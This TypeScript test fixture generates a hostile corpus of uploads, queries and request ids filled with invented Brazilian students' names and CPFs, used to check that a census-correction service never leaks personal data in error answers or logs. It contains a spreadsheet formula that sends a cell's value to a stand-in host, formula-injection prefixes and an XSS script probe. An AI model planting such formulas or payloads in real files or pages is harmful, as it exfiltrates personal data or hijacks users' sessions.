// The hostile corpus of test/http/privacy.test.ts (personal data in error answers and logs):
// returns, census files and requests that put CPFs and names of (invented) children
// wherever a careless export or an attacker would, so a test can look for them in every error
// answer and every log line. Deterministic: the same requests every run, generated rather than
// stored (an xlsx is a zip, and test/fixtures/ holds only fixture cases: fixtures.ts reads every
// folder there as one).
import { buildXlsx, HEADER, textRow } from './xlsx-builders.js';
import type { UploadFile } from './http.js';

export interface Person {
  readonly nome: string;
  readonly cpf: string;
}

/** A CPF with valid check digits, from its first nine digits. */
function cpf(base: string): string {
  const digits = [...base].map(Number);
  for (const length of [9, 10]) {
    const sum = digits.slice(0, length).reduce((total, digit, i) => total + digit * (length + 1 - i), 0);
    digits.push(((sum * 10) % 11) % 10);
  }
  return digits.join('');
}

/** The personal data of the corpus: none of it may reach a log line or an error answer. */
export const PEOPLE: readonly Person[] = [
  { nome: 'MARIA APARECIDA DOS SANTOS', cpf: cpf('529982247') },
  { nome: 'JOSÉ CARLOS PEREIRA LIMA', cpf: cpf('390533447') },
  { nome: 'ANA BEATRIZ FERREIRA GOMES', cpf: cpf('862883667') },
  { nome: 'PEDRO HENRIQUE NASCIMENTO', cpf: cpf('111444777') },
  { nome: 'FRANCISCA DAS CHAGAS MOURA', cpf: cpf('746971314') },
  { nome: 'LUCAS HENRIQUE ALVES ROCHA', cpf: cpf('304869172') },
];
const [P0, P1, P2, P3, P4, P5] = PEOPLE as [Person, Person, Person, Person, Person, Person];

/**
 * Filler of the long values: a run of it longer than QUOTE_BOUND characters in an answer or a
 * log line is file content quoted past the bound.
 */
export const LONG_MARK = 'ZQXJ';
/** What a 422 may quote of the return's value (SPEC §3.2's `(linha …)` / `(código …)`). */
export const QUOTE_BOUND = 40;

/** 32,000-ish characters (under the 32,767 a cell may hold), a CPF and a name past the bound. */
function long(person: Person): string {
  return `${LONG_MARK.repeat(7_990)} ${person.cpf} ${person.nome}`;
}

const RF = 'Diverge da base da Receita Federal.';
const FORMULA = '=HYPERLINK("http://example.invalid/?"&A1;"abrir")';

/** What the SPEC §3.2 422 quotes: at most QUOTE_BOUND characters, then `…`. */
export function quoted(value: string): string {
  return value.length > QUOTE_BOUND ? `${value.slice(0, QUOTE_BOUND)}…` : value;
}

const UNREADABLE = 'Arquivo retorno ilegível: cabeçalho não reconhecido';
const MISMATCH = 'O arquivo txt não corresponde ao retorno';

/**
 * Census text file: school, two persons (lines 2 and 3) with CPFs and names of the corpus, end.
 * `codes` replaces the persons' own codes (another school's file).
 */
function censo(codes: readonly [string, string] = ['ALU0001', 'ALU0002']): string {
  return [
    `00|12345678|1|03/02/2025|19/12/2025|ESCOLA ESTADUAL ${P5.nome}|88000000|4205407|05|RUA ${P4.nome}|100`,
    `30|12345678|${codes[0]}|123456789012|${P0.cpf}|${P0.nome}|14/03/2014|1|${P3.nome}|${P4.nome}|2|3`,
    `30|12345678|${codes[1]}|123456789013|${P1.cpf}|${P1.nome}|01/07/2013|1|${P5.nome}||2|3`,
    '99|',
    '',
  ].join('\n');
}

type Row = readonly string[];

/** A JSON return: one object per row, keyed by `header`. */
function jsonRows(header: Row, rows: readonly Row[]): string {
  return JSON.stringify(rows.map((row) => Object.fromEntries(header.map((key, i) => [key, row[i] ?? '']))));
}

async function xlsx(sheets: readonly { name: string; rows: readonly Row[] }[]): Promise<string> {
  return buildXlsx({
    sheets: sheets.map((sheet) => ({ name: sheet.name, rows: sheet.rows.map((row, i) => textRow(i + 1, row)).join('') })),
  });
}

/** A return whose rows the merge can match against censo() (and that carry the corpus's data). */
const GOOD_ROWS: readonly Row[] = [
  ['30', '2', 'ALU0001', 'Número do CPF', RF, `${P0.cpf} -- ${P2.cpf}`],
  ['30', '2', 'ALU0001', 'Nome completo', RF, `${P0.nome} -- ${FORMULA}`],
  ['30', '3', 'ALU0002', 'Filiação 1', `Filiação: ${RF}`, `${P5.nome} -- @${P3.nome}`],
  ['30', '3', 'ALU0002', 'Data de nascimento', RF, '01/07/2013 -- +02/07/2013'],
];

export type UploadRoute = '/api/divergencias-rf' | '/api/retorno-rf' | '/api/censo-corrigido';

/** One return (or one request shape) of the corpus and the answer it must get. */
export interface HostileUpload {
  readonly label: string;
  readonly routes: readonly UploadRoute[];
  readonly retorno: UploadFile;
  /** The txt sent with it on the routes that take one; censo() by default. */
  readonly txt?: UploadFile;
  readonly status: number;
  /** The exact `erro`, where SPEC or docs/integracao.md fixes it. */
  readonly erro?: string;
}

export interface HostileCorpus {
  readonly uploads: readonly HostileUpload[];
  /**
   * Every text the corpus writes as a header cell or JSON key: the only texts the 400 for an
   * unknown layout may name (SPEC §1.2).
   */
  readonly headerCells: ReadonlySet<string>;
}

const ALL: readonly UploadRoute[] = ['/api/divergencias-rf', '/api/retorno-rf', '/api/censo-corrigido'];
const WITH_TXT: readonly UploadRoute[] = ['/api/retorno-rf', '/api/censo-corrigido'];

/** Builds the corpus's xlsx files (in the OS temp folder) and describes every upload. */
export async function hostileCorpus(): Promise<HostileCorpus> {
  const headerCells = new Set<string>();
  // Cells holding a corpus person are never allowed, even where they stand as a header.
  const personal = (text: string) => PEOPLE.some((p) => text.includes(p.nome) || text.includes(p.cpf));
  const header = <T extends Row>(cells: T): T => {
    for (const cell of cells) if (!personal(cell)) headerCells.add(cell);
    return cells;
  };
  const json = (content: string, person: Person = P0): UploadFile => ({
    field: 'retorno',
    content,
    filename: `${person.nome} ${person.cpf}.json`,
  });
  const book = async (sheets: readonly { name: string; rows: readonly Row[] }[], person: Person = P1): Promise<UploadFile> => ({
    field: 'retorno',
    path: await xlsx(sheets),
    filename: `${person.nome} ${person.cpf}.xlsx`,
  });

  const uploads: HostileUpload[] = [
    // Unknown layouts (400). The finding: a data row that looks more like a header than the
    // header itself (a "Tipo" column whose cells say "Erro", the mensagem synonym) was named,
    // CPF pair included.
    {
      label: 'xlsx: unknown header, data rows with an "Erro" cell, CPFs and names',
      routes: ALL,
      retorno: await book([
        {
          name: 'Erros',
          rows: [
            header(['Tipo', 'Nº', 'Cód. Escola', 'Item', 'Observação', 'Valores']),
            ['Erro', '2', 'ALU0001', 'Número do CPF', RF, `${P0.cpf} -- ${P1.cpf}`],
            ['Erro', '3', 'ALU0002', 'Nome completo', RF, `${P1.nome} -- ${P2.nome}`],
          ],
        },
      ]),
      status: 400,
      erro: `${UNREADABLE} na planilha "Erros" (encontradas: Tipo, Nº, Cód. Escola, Item, Observação, Valores; faltam: código, campo, mensagem).`,
    },
    {
      label: "xlsx: a person's name as a header cell and as the sheet's name",
      routes: ALL,
      retorno: await book([
        {
          name: P0.nome,
          rows: [header(['Código na Escola', 'Campo', P1.nome]), ['ALU0001', 'Nome', `${P0.nome} -- ${P2.nome}`]],
        },
      ]),
      status: 400,
      erro: `${UNREADABLE} na 1ª planilha (encontradas: Código na Escola, Campo, …; faltam: mensagem).`,
    },
    {
      label: 'xlsx: a title row naming the school after a person, a name among known headers',
      routes: ALL,
      retorno: await book([
        {
          name: 'Plan1',
          rows: [[`Relatório da escola ${P2.nome}`], header(['Mensagem', 'Valor', P4.nome]), [RF, 'x -- y', P3.nome]],
        },
      ]),
      status: 400,
      erro: `${UNREADABLE} na planilha "Plan1" (encontradas: Mensagem, Valor, …; faltam: código, campo).`,
    },
    {
      label: 'xlsx: a formula and a 200-character cell in the first row, a CPF as the sheet name',
      routes: ALL,
      retorno: await book([
        {
          name: `Aluno ${P0.cpf}`,
          rows: [
            [FORMULA, 'Campo', LONG_MARK.repeat(50)],
            ['@SUM(1+1)', `+55 ${P0.cpf}`, `-${P0.nome}`],
          ],
        },
      ]),
      status: 400,
      erro: `${UNREADABLE} na 1ª planilha (encontradas: nenhuma; faltam: código, mensagem).`,
    },
    {
      label: "json: a person's name as a key of the first row",
      routes: ALL,
      retorno: json(jsonRows(header(['Tipo', 'Valor', P3.nome, 'Mensagem']), [['Erro', `${P0.cpf} -- ${P1.cpf}`, P3.cpf, RF]])),
      status: 400,
      erro: `${UNREADABLE} na lista de linhas (encontradas: Tipo, Valor, Mensagem, …; faltam: código, campo).`,
    },
    {
      label: 'json: a CPF as a key of the first row',
      routes: ALL,
      retorno: json(jsonRows(header([P0.cpf, 'Campo', 'Erro']), [[P0.nome, 'CPF', RF]])),
      status: 400,
      erro: `${UNREADABLE} na lista de linhas (encontradas: nenhuma; faltam: código).`,
    },
    {
      label: 'json: wrapped rows whose keys are plain, values personal',
      routes: ALL,
      retorno: json(
        JSON.stringify({
          escola: `ESCOLA ESTADUAL ${P5.nome}`,
          erros: JSON.parse(
            jsonRows(header(['Código na Escola', 'Nome do aluno', 'CPF do aluno']), [['ALU0001', P5.nome, P5.cpf]]),
          ) as unknown,
        }),
      ),
      status: 400,
      erro: `${UNREADABLE} na lista de linhas (encontradas: Código na Escola, Nome do aluno, CPF do aluno; faltam: campo, mensagem).`,
    },

    // A txt that does not match (422): the quoted linha/código is the return's own value.
    {
      label: 'json: a 32,000-character linha',
      routes: WITH_TXT,
      retorno: json(jsonRows(HEADER, [['30', long(P1), 'ALU0001', 'Número do CPF', RF, `${P0.cpf} -- ${P1.cpf}`]])),
      status: 422,
      erro: `${MISMATCH} (linha ${quoted(long(P1))}).`,
    },
    {
      label: 'json: a 32,000-character código and no linha column',
      routes: WITH_TXT,
      retorno: json(jsonRows(['Código na Escola', 'Campo', 'Mensagem', 'Conteúdo'], [[long(P2), 'Nome', RF, `${P2.nome} -- ${P3.nome}`]])),
      status: 422,
      erro: `${MISMATCH} (código ${quoted(long(P2))}).`,
    },
    {
      label: 'xlsx: a 32,000-character linha',
      routes: WITH_TXT,
      retorno: await book([
        { name: 'Erros', rows: [header([...HEADER]), ['30', long(P3), 'ALU0001', 'Número do CPF', RF, `${P0.cpf} -- ${P3.cpf}`]] },
      ]),
      status: 422,
      erro: `${MISMATCH} (linha ${quoted(long(P3))}).`,
    },
    {
      label: 'json: a formula as the código',
      routes: WITH_TXT,
      retorno: json(jsonRows(['Código na Escola', 'Campo', 'Mensagem', 'Conteúdo'], [[FORMULA, 'CPF', RF, `${P0.cpf} -- ${P1.cpf}`]])),
      status: 422,
      erro: `${MISMATCH} (código ${quoted(FORMULA)}).`,
    },
    {
      label: 'json: a código whose 40th character starts an emoji',
      routes: WITH_TXT,
      retorno: json(
        jsonRows(['Código na Escola', 'Campo', 'Mensagem', 'Conteúdo'], [[`${'A'.repeat(39)}😀${P0.nome}`, 'CPF', RF, '1 -- 2']]),
      ),
      status: 422,
      // The cut never leaves half a surrogate pair (an invalid string) in the answer.
      erro: `${MISMATCH} (código ${'A'.repeat(39)}…).`,
    },
    {
      label: "another school's txt",
      routes: WITH_TXT,
      retorno: json(jsonRows(HEADER, GOOD_ROWS)),
      txt: { field: 'txt', content: censo(['OUTRA01', 'OUTRA02']), filename: `${P4.nome} ${P4.cpf}.txt` },
      status: 422,
      erro: `${MISMATCH} (linha 2).`,
    },

    // Accepted files full of personal data and formulas: the answers hold them (they are the
    // data), the logs must not.
    {
      label: 'json: a matching return, a txt named after a person',
      routes: ALL,
      retorno: json(jsonRows(HEADER, GOOD_ROWS), P2),
      txt: { field: 'txt', content: censo(), filename: `${P1.nome} ${P1.cpf}.txt` },
      status: 200,
    },
    {
      label: 'xlsx: a matching return',
      routes: ALL,
      retorno: await book([{ name: P2.nome, rows: [header([...HEADER]), ...GOOD_ROWS] }], P3),
      status: 200,
    },

    // Refused before the job: the file name must not be logged either.
    {
      label: 'a .xls named after a person',
      routes: ALL,
      retorno: { field: 'retorno', content: 'não é uma planilha', filename: `${P2.nome} ${P2.cpf}.xls` },
      status: 400,
      erro: 'Extensão inválida para retorno: envie .json ou .xlsx.',
    },
  ];
  return { uploads, headerCells };
}

/** The census file every upload to a route with a txt sends, unless its case says otherwise. */
export function defaultTxt(): UploadFile {
  return { field: 'txt', content: censo(), filename: 'censo.txt' };
}

/** GET /api/query requests with personal data where filters, cursors and names go. */
export interface HostileQuery {
  readonly label: string;
  readonly params: Record<string, string> | [string, string][];
  readonly status: number;
  /**
   * The answer names the request's own unknown query or parameter (up to 60 characters, by the
   * query route's design): its answer is not searched for personal data, its log lines are.
   */
  readonly echoesRequest?: boolean;
}

export const HOSTILE_QUERIES: readonly HostileQuery[] = [
  { label: 'a name as an integer filter', params: { query: 'audits', user_id: P0.nome }, status: 400 },
  { label: 'a CPF as a date', params: { query: 'audits', inicio: P1.cpf }, status: 400 },
  { label: 'a CPF and a name as the cursor', params: { query: 'audits', cursor: `${P2.cpf}${P2.nome}` }, status: 400 },
  { label: 'a CPF as the limit', params: { query: 'audits', limit: P3.cpf }, status: 400 },
  {
    label: 'inicio after fim, a name as the action',
    params: { query: 'audits', inicio: '2025-02-01', fim: '2025-01-01', action: P4.nome },
    status: 400,
  },
  {
    label: 'a repeated filter',
    params: [
      ['query', 'audits'],
      ['user_id', '1'],
      ['user_id', P5.cpf],
    ],
    status: 400,
  },
  {
    label: 'a long text filter ending in a name',
    params: { query: 'audits', action: `${LONG_MARK.repeat(1_000)} ${P0.nome}` },
    status: 200,
  },
  { label: 'a CPF as an integer filter, as CSV', params: { query: 'audits', user_id: P1.cpf, format: 'csv' }, status: 200 },
  { label: 'a name as the query', params: { query: P2.nome }, status: 400, echoesRequest: true },
  { label: 'a CPF as a parameter name', params: { query: 'audits', [P3.cpf]: '1' }, status: 400, echoesRequest: true },
];

/**
 * `x-request-id` values a gateway or a client might send that are not short and plain: none may
 * be echoed or logged (a generated id replaces each).
 */
export const BAD_REQUEST_IDS: readonly string[] = [
  'r'.repeat(129),
  P0.nome,
  `${P1.cpf} ${P1.nome}`,
  'id<script>alert(1)</script>',
  `ação:${P2.cpf}`,
  `${LONG_MARK.repeat(2_000)}`,
];

/** Short and plain: kept as sent. */
export const GOOD_REQUEST_IDS: readonly string[] = ['a'.repeat(128), 'gw.1:2_3-4'];
